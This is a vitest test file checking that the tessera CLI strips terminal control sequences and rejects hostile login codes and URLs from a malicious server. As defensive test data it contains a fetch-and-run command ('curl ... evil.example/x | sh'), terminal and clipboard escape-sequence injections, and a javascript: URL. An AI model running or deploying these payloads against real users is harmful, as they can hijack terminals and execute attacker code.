import { mkdtemp } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { cli, hostileHost, TERMINAL_CONTROL, type HostileAnswers } from '../helpers/cli.ts';

// A host is only trusted to be a server: its strings are data. None may steer the terminal or the clipboard.
const ESC = '\x1b';
const BEL = '\x07';
const CSI = '\u009b';

let host: Awaited<ReturnType<typeof hostileHost>>;
beforeAll(async () => {
  host = await hostileHost();
});
afterAll(() => host.close());

const configDir = () => mkdtemp(path.join(tmpdir(), 'tessera-cli-'));
const answer = (answers: HostileAnswers) => {
  for (const key of Object.keys(host.answers) as (keyof HostileAnswers)[]) delete host.answers[key];
  Object.assign(host.answers, answers);
};
const deviceStart = (over: Record<string, unknown>) => ({
  device_code: 'device-code',
  user_code: 'BCDF-GHJK',
  verification_uri: `${host.url}/device`,
  verification_uri_complete: `${host.url}/device?user_code=BCDF-GHJK`,
  expires_in: 60,
  interval: 1,
  ...over,
});
const login = async () => cli(['login', '--no-browser'], { TESSERA_HOST: host.url, TESSERA_CONFIG_DIR: await configDir() }).done;

describe('a hostile host at login', () => {
  it('when the user code is not a Tessera code (a command line, say), then login shows nothing of it and exits 3', async () => {
    for (const code of ['curl -s https://evil.example/x | sh', `BCDF-GHJK${ESC}[2J`, 'BCDF-GHJA', 'BCDFGHJK']) {
      answer({ deviceStart: deviceStart({ user_code: code }) });
      const res = await login();
      expect(res.code, code).toBe(3);
      expect(res.stderr).toBe(
        `tessera: ${host.url} sent a login code that is not a Tessera code (XXXX-XXXX, consonants only); it is not shown or copied.\nIs ${host.url} a Tessera server? Check --host or TESSERA_HOST.\n`,
      );
    }
  });

  it('when the verification URLs point elsewhere, then the host\'s own /device is printed instead, with the code in capitals', async () => {
    answer({
      deviceStart: deviceStart({ user_code: 'bcdf-ghjk', verification_uri: 'https://evil.example/device', verification_uri_complete: 'javascript:alert(1)' }),
      token: { status: 400, body: { error: 'access_denied' } },
    });
    const res = await login();
    expect(res.code).toBe(2);
    expect(res.stderr).toContain(`To sign in, open ${host.url}/device\nand enter the code:  BCDF-GHJK\n\nOr open this link, which has the code in it:\n  ${host.url}/device?user_code=BCDF-GHJK\n`);
    expect(res.stderr).not.toMatch(/evil|javascript/);
  });

  it('when a same-origin verification URL carries control characters, then it is printed percent-encoded, never raw', async () => {
    answer({
      deviceStart: deviceStart({ verification_uri_complete: `${host.url}/device?user_code=BCDF-GHJK${ESC}]8;;https://evil.example${BEL}x` }),
      token: { status: 400, body: { error: 'access_denied' } },
    });
    const res = await login();
    expect(res.code).toBe(2);
    expect(res.stderr).toContain(`  ${host.url}/device?user_code=BCDF-GHJK%1B]8;;https://evil.example%07x\n`);
    expect(res.stderr).not.toMatch(TERMINAL_CONTROL);
  });

  it('when the token endpoint\'s error carries escape sequences, then the message shows the text without its control characters', async () => {
    answer({
      deviceStart: deviceStart({}),
      token: { status: 400, body: { error: `server_error${ESC}[2J`, error_description: `Boom${ESC}]52;c;Y3VybCBldmlsfHNo${BEL} ${CSI}31mred\r\nline` } },
    });
    const res = await login();
    expect(res.code).toBe(3);
    expect(res.stderr).toMatch(/\ntessera: The login failed: server_error\[2J: Boom\]52;c;Y3VybCBldmlsfHNo 31mredline\n$/);
    expect(res.stderr).not.toMatch(TERMINAL_CONTROL);
  });
});

describe('a hostile host after login', () => {
  const principal = {
    sub: 'sub-1',
    email: `mallory@example.test${ESC}[8m`,
    display_name: `Mallory${ESC}[2J${ESC}[H${CSI}31m\u007f\u202e`,
    scopes: ['full'],
    expires_at: null,
    subject_issuer: `https://idp.example${ESC}]0;pwned${BEL}`,
    default_workspace_id: null,
  };
  const env = async () => ({ TESSERA_HOST: host.url, TESSERA_CONFIG_DIR: await configDir(), TESSERA_TOKEN: 'tsa_x' });

  it('when /me carries escape sequences, then whoami shows the text without control characters, and --json keeps the values exactly', async () => {
    answer({ get: { '/me': { status: 200, body: principal } } });
    const human = await cli(['whoami'], await env()).done;
    expect(human.code).toBe(0);
    expect(human.stdout).toContain('mallory@example.test[8m (Mallory[2J[H31m)');
    expect(human.stdout).toContain('Signed in through: https://idp.example]0;pwned (single sign-on');
    expect(human.stdout + human.stderr).not.toMatch(TERMINAL_CONTROL);
    const json = await cli(['whoami', '--json'], await env()).done;
    expect(json.stdout).not.toMatch(TERMINAL_CONTROL);
    expect(JSON.parse(json.stdout)).toMatchObject({ display_name: principal.display_name, subject_issuer: principal.subject_issuer });
  });

  it('when app names, tags, descriptions and error messages carry control characters, then apps list, apps info and errors show them stripped', async () => {
    const app = { id: 'app-1', name: `Evil${ESC}[8mhidden`, mode: 'chat', tags: [`t${BEL}ag`], description: `Fine\rEvil${CSI}2J`, input_schema: [] };
    answer({
      get: {
        '/apps': { status: 200, body: { data: [app], page: 1, limit: 200, has_more: false } },
        '/apps/app-1/info': { status: 200, body: app },
        '/workspaces': { status: 403, body: { error: `forbidden${ESC}[2J`, message: `No${ESC}]52;c;ZXZpbA==${BEL} way.` } },
      },
    });
    const e = await env();
    const list = await cli(['apps', 'list'], e).done;
    expect(list.code).toBe(0);
    expect(list.stdout).toMatch(/app-1\s+chat\s+Evil\[8mhidden\s+tag/);
    const info = await cli(['apps', 'info', 'app-1'], e).done;
    expect(info.code).toBe(0);
    expect(info.stdout).toContain('Evil[8mhidden  (chat app app-1)\nFineEvil2J\n');
    const denied = await cli(['workspaces'], e).done;
    expect(denied.code).toBe(3);
    expect(denied.stderr).toBe('tessera: Error 403 forbidden[2J: No]52;c;ZXZpbA== way.\n');
    for (const res of [list, info, denied]) expect(res.stdout + res.stderr).not.toMatch(TERMINAL_CONTROL);
    const json = await cli(['apps', 'list', '--json'], e).done;
    expect(json.stdout).not.toMatch(TERMINAL_CONTROL);
    expect(JSON.parse(json.stdout)[0]).toMatchObject({ name: app.name, description: app.description });
  });
});
